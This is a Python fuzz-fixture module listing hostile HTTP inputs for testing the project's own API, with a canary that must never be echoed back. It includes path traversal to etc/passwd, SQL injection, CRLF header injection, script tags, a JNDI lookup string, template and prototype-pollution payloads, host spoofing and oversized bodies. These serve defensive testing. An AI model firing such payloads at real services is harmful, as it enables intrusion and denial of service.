"""Nasty things to send: addresses, queries, headers, bodies and forms, with a canary that must never come back.

Called from tests/api/test_hostile.py only.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

CANARY = "Kanarie999993653"

STEPS = (  # in place of one step of an address, already percent-encoded
    "%00",
    "%ff%fe",
    "%ed%a0%80",
    "%0d%0aX-Evil:%20" + CANARY,
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e",
    CANARY,
    "%27%20or%201%3D1%20--",
    "%3Cscript%3E" + CANARY,
    "a" * 300,
    "a" * 3000,
    "%F0%9F%8C%B3",
    "0",
    "-1",
    "null",
    "00000000-0000-0000-0000-000000000000",
    "%20",
    "%",
    "%zz",
)
QUERIES = (
    "%00=1",
    "x=%ff",
    "limit=-1",
    "limit=99999999999999999999",
    "limit=" + CANARY,
    "after=" + CANARY,
    "after=%00",
    "after=e30%3D",
    "language=" + CANARY,
    "taal=%ed%a0%80",
    "flow[]=x&flow=y&flow=z",
    "a=1&" * 500,
    "a=" + "b" * 9000,
    "team=%27%3B+drop+table+tasks--",
)
HEADERS: tuple[dict[str, Any], ...] = (
    {"accept": "*/*;q=" + "9" * 500},
    {"accept": "\x7f"},
    {"accept-language": CANARY + ",;q=,," * 200},
    {"accept-language": "nl;q=x, *;q=-1"},
    {"authorization": "Bearer"},
    {"authorization": "Bearer " + CANARY},
    {"authorization": "Bearer j." + "x" * 5000},
    {"authorization": b"Bearer j.\xff\xfe"},
    {"authorization": b"Bearer w.\xff\xfe"},
    {"authorization": "Basic " + CANARY},
    {"authorization": "\u00e9\u00e8".encode("latin-1")},
    {"cookie": "wegwijzer-journey=" + CANARY},
    {"cookie": "wegwijzer-worker=w." + CANARY + "; wegwijzer-language=" + CANARY},
    {"cookie": b"wegwijzer-journey=\xff\x01;=;;; ="},
    {"cookie": ";" * 5000},
    {"idempotency-key": CANARY * 50},
    {"idempotency-key": b"\xff\xfe"},
    {"idempotency-key": ""},
    {"if-match": CANARY},
    {"if-match": '"99999999999999999999999"'},
    {"if-match": '"-1"'},
    {"if-match": b'"\xff"'},
    {"if-none-match": CANARY},
    {"range": "bytes=0-0,1-1," * 300},
    {"x-forwarded-for": CANARY},
    {"x-forwarded-host": "evil.example"},
    {"forwarded": "host=evil.example"},
    {"content-type": CANARY},
    {"content-type": "application/json; charset=" + CANARY},
    {"content-type": "multipart/form-data"},
    {"content-encoding": "gzip"},
    {"expect": "200-maybe"},
    {"origin": CANARY},
    {"sec-fetch-site": CANARY},
    {"host": CANARY + "/" + CANARY},
)
JSON_BODIES = (
    b"",
    b"null",
    b"[]",
    b'"' + CANARY.encode() + b'"',
    b"123",
    b"{",
    b'{"' + CANARY.encode() + b'": 1}',
    b'{"answers": {"' + CANARY.encode() + b'": "' + CANARY.encode() + b'"}}',
    b'{"answers": {}, "answers": {}}',
    b'{"answers": NaN}',
    b'{"answers": {"spoed": Infinity}}',
    b'{"answers": {"spoed": 1e999999999}}',
    b'{"answers": {"spoed": "\\u0000"}}',
    b'{"answers": {"spoed": "\\ud800"}}',
    b'{"answers": {"__proto__": {"spoed": true}}}',
    b'{"answers": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
    b'{"a":' * 2000 + b"1" + b"}" * 2000,
    b'{"answers": ' + b"9" * 5000 + b"}",
    b"\xff\xfe\x00",
    b"\x1f\x8b\x08\x00",
    b'{"flow": "../../etc/passwd"}',
    b'{"flow": "boom-kappen", "channel": "' + CANARY.encode() + b'"}',
    json.dumps({f"k{n}": n for n in range(5000)}).encode(),
    b'{"text": "' + b"x" * 200_000 + b'"}',
)
VALUES: tuple[Any, ...] = (
    None,
    True,
    0,
    -1,
    1.5,
    10**30,
    "",
    " ",
    CANARY,
    "\u202e" + CANARY,
    "x" * 100_000,
    [],
    [CANARY],
    {},
    {CANARY: CANARY},
    "${jndi:ldap://evil}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "os.system",
    "2026-02-30",
    "spoed[0].x[1].y",
)
FORMS = (
    (b"", "application/x-www-form-urlencoded"),
    (b"%00=%00&x=%00", "application/x-www-form-urlencoded"),
    (b"%ff=%ff", "application/x-www-form-urlencoded"),
    (b"spoed=" + CANARY.encode() + b"&csrf=" + CANARY.encode(), "application/x-www-form-urlencoded"),
    (b"a=1&" * 5000, "application/x-www-form-urlencoded"),
    (b"=&&&;;;==", "application/x-www-form-urlencoded"),
    (b"x=" + b"y" * 200_000, "application/x-www-form-urlencoded"),
    (b"x", "multipart/form-data"),
    (b"x", "multipart/form-data; boundary="),
    (b"--b\r\n\r\n--b--", "multipart/form-data; boundary=b"),
    (b"--b\r\nContent-Disposition: form-data\r\n\r\nx\r\n--b--\r\n", "multipart/form-data; boundary=b"),
    (b'--b\r\nContent-Disposition: form-data; name="\x00"\r\n\r\nx\r\n--b--\r\n', "multipart/form-data; boundary=b"),
    (
        b'--b\r\nContent-Disposition: form-data; name="a"; filename="../\x00'
        + CANARY.encode()
        + b'"\r\n\r\nx\r\n--b--\r\n',
        "multipart/form-data; boundary=b",
    ),
    (
        b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\x00\xff\r\n--b--\r\n',
        "multipart/form-data; boundary=b",
    ),
    (b"--b\r\nX: " + b"y" * 100_000, "multipart/form-data; boundary=b"),
    (b"{}", "text/plain"),
    (b"<a/>", "application/xml"),
)


def filled(schema: dict[str, Any], document: dict[str, Any], depth: int = 0) -> Any:
    """A plausible value for a JSON Schema of our own description."""
    if "$ref" in schema:
        return filled(document["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]], document, depth + 1)
    for choice in ("anyOf", "oneOf", "allOf"):
        if choice in schema:
            return filled(schema[choice][0], document, depth + 1)
    if "const" in schema or "enum" in schema:
        return schema.get("const", schema.get("enum", [None])[0])
    if schema.get("examples"):
        return schema["examples"][0]
    match schema.get("type"):
        case "object":
            members = schema.get("properties", {})
            return {name: filled(inner, document, depth + 1) for name, inner in members.items()} or {"spoed": True}
        case "array":
            return [filled(schema.get("items", {}), document, depth + 1)] if depth < 5 else []
        case "integer" | "number":
            return 1
        case "boolean":
            return True
        case _:
            return "spoed"


def bent(plausible: Any) -> Iterator[Any]:
    """The plausible body with one member at a time replaced by something nasty, left out, or one too many."""
    if not isinstance(plausible, dict):
        return
    for name, value in plausible.items():
        yield {key: kept for key, kept in plausible.items() if key != name}
        for nasty in VALUES:
            yield {**plausible, name: nasty}
        if isinstance(value, dict):
            for inner in bent(value):
                yield {**plausible, name: inner}
    yield {**plausible, CANARY: CANARY}
